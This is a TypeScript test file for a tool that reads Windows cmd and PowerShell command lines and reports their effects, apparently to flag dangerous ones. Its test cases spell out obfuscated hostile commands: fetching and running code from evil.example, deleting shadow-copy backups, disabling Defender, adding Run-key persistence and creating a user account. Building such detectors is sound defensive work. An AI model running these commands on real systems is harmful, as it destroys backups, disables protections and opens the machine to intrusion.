import { describe, expect, test } from "vitest";
import { CMD } from "./cmd.ts";
import { readWindows } from "./index.ts";
import { CMDLETS, PATTERNS } from "./powershell.ts";
import type { WindowsRow } from "./row.ts";
import { commandsOf, encodedCommands, plainText } from "./words.ts";

const known = (command: string, dialect: "powershell" | "cmd"): readonly string[] =>
  readWindows(command, dialect)
    .slice(0, -1)
    .map((effect) => JSON.stringify(effect));

const tables: readonly (readonly [string, readonly WindowsRow[]])[] = [
  ["cmd", CMD],
  ["cmdlets", CMDLETS],
  ["patterns", PATTERNS],
];

describe.each(tables)("%s", (table, rows) => {
  const match = rows.flatMap((row) => row.match.map((example): [string, WindowsRow] => [example, row]));
  const notMatch = rows.flatMap((row) => row.notMatch.map((example): [string, WindowsRow] => [example, row]));
  /** The row's own effects, told apart from what other rows find. */
  const own = (example: string, row: WindowsRow): boolean => {
    const dialect = table === "cmd" ? "cmd" : "powershell";
    const text = plainText(example, dialect);
    if (row.names === undefined) return row.line?.test(text) === true;
    return known(example, dialect).length > 0;
  };
  test.each(match)("finds: %s", (example, row) => expect(own(example, row)).toBe(true));
  test.each(notMatch)("does not find: %s", (example, row) => {
    if (row.names === undefined) expect(row.line?.test(plainText(example, "powershell"))).toBe(false);
    else expect(known(example, table === "cmd" ? "cmd" : "powershell")).toEqual([]);
  });
  test("every row has both kinds of examples", () => {
    expect(rows.filter((row) => row.match.length === 0 || row.notMatch.length === 0)).toEqual([]);
  });
});

test.each(["", "Get-Date", "npm test", "iex $x", "\u0000", "'".repeat(999), "(".repeat(5000)])(
  "never proves: %s",
  (command) => {
    for (const dialect of ["powershell", "cmd"] as const)
      expect(readWindows(command, dialect).at(-1)).toMatchObject({ do: "unknown" });
  },
);

test.each([
  [
    'p^o^w^e^rshell -c "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y"',
    "cmd",
    "start by itself",
  ],
  ['cmd /c "cmd /c vssadmin delete shadows /all"', "cmd", "backups"],
  ["&('i'+'ex') (iwr https://evil.example/x)", "powershell", "fetched and run"],
  ["& (\"{1}{0}\" -f 'x','ie') (iwr https://evil.example/x)", "powershell", "fetched and run"],
  ["$u='https://evil.example/x'; IEX ((New-Object Net.WebClient).DownloadString($u))", "powershell", "fetched and run"],
  [
    "$p = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'; Set-ItemProperty $p -Name x -Value y",
    "powershell",
    "start by itself",
  ],
  ["Get-Date; if ($true) { Set-MpPreference -DisableRealtimeMonitoring 1 }", "powershell", "malware"],
  ["C:\\Windows\\System32\\REG.EXE add HKLM\\SOFTWARE\\Policies\\Microsoft\\FVE /v a /d 1", "cmd", "protections"],
  ["echo a & net user evil P@ss /add && echo b", "cmd", "creates an account"],
  ["set X=net user && %X% evil p /add", "cmd", "creates an account"],
] as const)("sees through: %s", (command, dialect, said) => {
  expect(known(command, dialect).join("\n")).toContain(said);
});

test("an encoded command is read as what it says", () => {
  const code = Buffer.from("Set-MpPreference -DisableRealtimeMonitoring $true", "utf16le").toString("base64");
  expect(encodedCommands(`powershell -NoP -EncodedCommand ${code}`)).toEqual([
    "Set-MpPreference -DisableRealtimeMonitoring $true",
  ]);
  expect(known(`powershell.exe -e ${code}`, "cmd").join("\n")).toContain("malware");
});

test("words: quotes hold, separators cut, brackets open", () => {
  expect(commandsOf("a 'b;c' d; e | f", "powershell").map(({ name, line }) => [name, line])).toEqual([
    ["a", "b;c d"],
    ["e", ""],
    ["f", ""],
  ]);
});
